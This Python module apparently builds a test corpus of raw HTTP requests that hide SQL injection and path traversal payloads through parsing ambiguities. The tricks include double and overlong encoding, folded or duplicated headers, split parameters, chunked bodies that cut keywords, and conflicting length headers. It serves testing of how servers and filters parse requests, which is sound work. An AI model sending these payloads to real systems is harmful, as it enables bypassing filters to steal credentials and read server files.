"""Requests whose bytes servers read in different ways: (name, bytes). Each carries an attack where a reader may or may not find it."""

RAW = "7' union select user,password from users-- -"
CODED = "7'%20union%20select%20user,password%20from%20users--%20-"
PLUS = CODED.replace("%20", "+")


def get(target, *headers, version="HTTP/1.1", method="GET"):
    lines = ["%s %s %s" % (method, target, version), "Host: a.example", *headers, "Connection: close"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def post(body, *headers, length=True, kind="application/x-www-form-urlencoded", target="/a"):
    body = body.encode("latin-1") if isinstance(body, str) else body
    extra = ["Content-Type: " + kind] if kind else []
    return get(target, *extra, *headers, *(["Content-Length: %d" % len(body)] if length else []), method="POST") + body


def chunked(*pieces, ext="", trailer="", size="%x", end="\r\n"):
    out = "".join((size % len(piece)) + ext + end + piece + end for piece in pieces)
    return out + "0" + ext + end + trailer + end


def targets():
    yield "control: in the query", get("/a?id=" + CODED)
    yield "control: in the path", get("/a/" + CODED)
    yield "plus for a blank", get("/a?id=" + PLUS)
    yield "a parameter twice, the attack in halves", get("/a?id=7'/*&id=*/union%20select%201,2--")
    yield "a semicolon between parameters", get("/a?b=1;id=" + CODED)
    yield "behind a #", get("/a?b=1#id=" + CODED)
    yield "the query behind a #", get("/a#b?id=" + CODED)
    yield "absolute form", get("http://a.example/a?id=" + CODED)
    yield "absolute form, no path", get("http://a.example?id=" + CODED)
    yield "absolute form, user and port", get("http://u:p@a.example:80/a?id=" + CODED)
    yield "absolute form, another scheme", get("foo://a.example/a?id=" + CODED)
    yield "slashes doubled", get("//a//b?id=" + CODED)
    yield "encoded twice", get("/a?id=" + CODED.replace("%", "%25").replace("'", "%2527"))
    yield "encoded twice, in the path", get("/a/" + CODED.replace("%", "%25").replace("'", "%2527"))
    yield "%u0027", get("/a?id=7%u0027%20or%201=1--")
    yield "overlong UTF-8", get("/a?id=7%c0%a7%20or%201=1--")
    yield "blanks as they are", get("/a?id=" + RAW)
    yield "tabs as they are", get("/a?id=" + RAW.replace(" ", "\t"))
    yield "tabs between the words of the line", (
        "GET\t/a?id=%s\tHTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % CODED
    ).encode()
    yield "two blanks before the target", (
        "GET  /a?id=%s HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % CODED
    ).encode()
    yield "a blank behind the version", (
        "GET /a?id=%s HTTP/1.1 \r\nHost: a\r\nConnection: close\r\n\r\n" % CODED
    ).encode()
    yield "a method in small letters", get("/a?id=" + CODED, method="get")
    yield "an unknown method", get("/a?id=" + CODED, method="FOO")
    yield "HTTP/1.0", get("/a?id=" + CODED, version="HTTP/1.0")
    yield "HTTP/0.9", ("GET /a?id=%s\r\n" % CODED).encode()
    yield "HTTP/1.2", get("/a?id=" + CODED, version="HTTP/1.2")
    yield "path parameters", get("/a;id=%s/b" % CODED)
    yield "path parameters and ..;", get("/x/..;/a?id=" + CODED)
    yield "dots that stay inside", get("/x/../a?id=" + CODED)
    yield "dots that lead out", get("/../../../../etc/passwd")
    yield "dots, encoded", get("/x/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
    yield "slashes, encoded", get("/x/..%2f..%2f..%2fetc%2fpasswd")
    yield "backslashes", get("/x/..\\..\\..\\windows\\win.ini")
    yield "a NUL, encoded, in the path", get("/a%00/" + CODED)
    yield "a NUL, encoded, in the query", get("/a?id=7%00'%20union%20select%201,2--")
    yield "a NUL as it is", get("/a?b=\0&id=" + CODED)
    yield "a line end, encoded, in the path", get("/a%0d%0aX: 1/" + CODED)
    yield "bytes over 127", get("/a?b=\xe9\xff&id=" + CODED)
    yield "a percent sign alone", get("/a?b=%&id=" + CODED)
    yield "a wrong percent code", get("/a?id=%zz" + CODED)
    yield "a wrong percent code in the path", get("/%zz/" + CODED)
    yield "two question marks", get("/a?b=1?id=" + CODED)
    yield "? encoded", get("/a%3fid=" + CODED)
    yield "& encoded", get("/a?b=1%26id=" + CODED)
    yield "# encoded", get("/a%23?id=" + CODED)
    yield "no name", get("/a?=" + CODED)
    yield "nothing but separators first", get("/a?&&&=&id=" + CODED)
    yield "in the name", get("/a?%s=1" % CODED)
    yield "quotes as they are", get('/a?id="7\'%20union%20select%201,2--"')
    yield "braces and carets as they are", get("/a?b={}|^`&id=" + CODED)


def headers():
    yield "control: in a header", get("/a", "X-Test: " + RAW)
    yield "folded over two lines", get("/a", "X-Test: 7'\r\n union select user,password from users-- -")
    yield "folded with a tab", get("/a", "X-Test: 7'\r\n\tunion select user,password from users-- -")
    yield "header lines end in LF alone", get("/a", "X-Test: " + RAW).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n", 1)
    yield "all lines end in LF alone", get("/a?id=" + CODED).replace(b"\r\n", b"\n")
    yield "a CR alone in a value", get("/a", "X-Test: 7'\runion select user,password from users-- -")
    yield "an LF alone before a header", get("/a", "X-B: 1\nX-Test: " + RAW)
    yield "a blank before the colon", get("/a", "X-Test : " + RAW)
    yield "a line without a colon", get("/a", "abc", "X-Test: " + RAW)
    yield "a header twice, the attack in halves", get("/a", "X-Test: 7'", "X-Test: union select 1,2--")
    yield "no blank behind the colon", get("/a", "X-Test:" + RAW)
    yield "tabs around the value", get("/a", "X-Test:\t\t%s\t" % RAW)
    yield "cookies twice", get("/a", "Cookie: b=1", "Cookie: id=" + CODED)
    yield "a quoted cookie", get("/a", 'Cookie: id="%s"' % CODED)
    yield "a NUL in a value", get("/a", "X-Test: 7\0' union select 1,2--")
    yield "an underscore in the name", get("/a", "X_Test: " + RAW)
    yield "no name", get("/a", ": " + RAW)
    yield "bytes over 127 in a value", get("/a", "X-Test: \xff" + RAW)
    yield "an empty line first", b"\r\n" + get("/a?id=" + CODED)
    yield "headers that name another target", get("/a", "X-Original-URL: /b?id=" + CODED, "X-Rewrite-URL: /c")


def bodies():
    form = "b=1&id=" + CODED
    yield "control: in a form", post(form)
    yield "control: in JSON", post('{"id": "%s"}' % RAW, kind="application/json")
    yield "a form in chunks", post(chunked("b=1&id=" + CODED), "Transfer-Encoding: chunked", length=False)
    yield "a form in chunks that cut words", post(
        chunked("b=1&id=7'%20uni", "on%20sel", "ect%20user,password%20fr", "om%20users--%20-"),
        "Transfer-Encoding: chunked",
        length=False,
    )
    yield "chunks of one byte", post(chunked(*form), "Transfer-Encoding: chunked", length=False)
    yield "JSON in chunks that cut words", post(
        chunked('{"id": "7\' uni', "on sel", "ect user,password fr", 'om users-- -"}'),
        "Transfer-Encoding: chunked",
        length=False,
        kind="application/json",
    )
    yield "extensions of chunks", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--", ext=";a=b"), "Transfer-Encoding: chunked", length=False
    )
    yield "quoted extensions of chunks", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--", ext=';a="b;c"'), "Transfer-Encoding: chunked", length=False
    )
    yield "chunk sizes with zeros first", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--", size="0000%X"), "Transfer-Encoding: chunked", length=False
    )
    yield "chunk lines end in LF alone", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--", end="\n"), "Transfer-Encoding: chunked", length=False
    )
    yield "a trailer", post(chunked("b=1", trailer="X-Test: %s\r\n" % RAW), "Transfer-Encoding: chunked", length=False)
    yield "both lengths", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--"),
        "Transfer-Encoding: chunked",
        "Content-Length: 4",
        length=False,
    )
    yield "the length twice, the same", post(form, "Content-Length: %d" % len(form))
    yield "the length twice, different", post(form, "Content-Length: 3")
    yield "the length twice in a line", post(form, "Content-Length: %d, %d" % (len(form), len(form)), length=False)
    yield "the length with a sign", post(form, "Content-Length: +%d" % len(form), length=False)
    yield "the length with a zero first", post(form, "Content-Length: 0%d" % len(form), length=False)
    yield "Chunked with a capital", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--"), "Transfer-Encoding: Chunked", length=False
    )
    yield "chunked behind a tab", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--"), "Transfer-Encoding:\tchunked", length=False
    )
    yield "chunked, twice", post(
        chunked("b=1&id=7'%20uni", "on%20select%201,2--"),
        "Transfer-Encoding: chunked",
        "Transfer-Encoding: identity",
        length=False,
    )
    yield "chunked in quotes", post(form, 'Transfer-Encoding: "chunked"')
    yield "xchunked", post(form, "Transfer-Encoding: xchunked")
    yield "a body in a GET", get(
        "/a", "Content-Type: application/x-www-form-urlencoded", "Content-Length: %d" % len(form)
    ) + form.encode()
    yield "a form that says it is text", post(form, kind="text/plain")
    yield "a form that says nothing", post(form, kind=None)
    yield "JSON that says it is a form", post('{"id": "%s"}' % RAW)
    yield "two types", post('{"id": "%s"}' % RAW, "Content-Type: application/json", kind="text/plain")
    yield "a form in UTF-16", post(RAW.encode("utf-16-le"), kind="application/x-www-form-urlencoded; charset=utf-16le")
    yield "JSON with codes", post('{"id": "7\\u0027 \\u0075nion select 1,2--"}', kind="application/json")
    yield "JSON with a key twice", post('{"id": 1, "id": "%s"}' % RAW, kind="application/json")
    yield "multipart, in a value", post(
        '--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n%s\r\n--b--\r\n' % RAW,
        kind="multipart/form-data; boundary=b",
    )
    yield "multipart, in a file's name", post(
        '--b\r\nContent-Disposition: form-data; name="f"; filename="%s"\r\n\r\nx\r\n--b--\r\n' % RAW,
        kind="multipart/form-data; boundary=b",
    )
    yield "multipart, another boundary", post(
        '--c\r\nContent-Disposition: form-data; name="id"\r\n\r\n1\r\n--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n%s\r\n--b--\r\n'
        % RAW,
        kind="multipart/form-data; boundary=c; boundary=b",
    )
    yield "expects 100", post(form, "Expect: 100-continue")


def all_requests():
    for place, source in (("target", targets), ("header", headers), ("body", bodies)):
        for name, raw in source():
            yield "%s: %s" % (place, name), raw
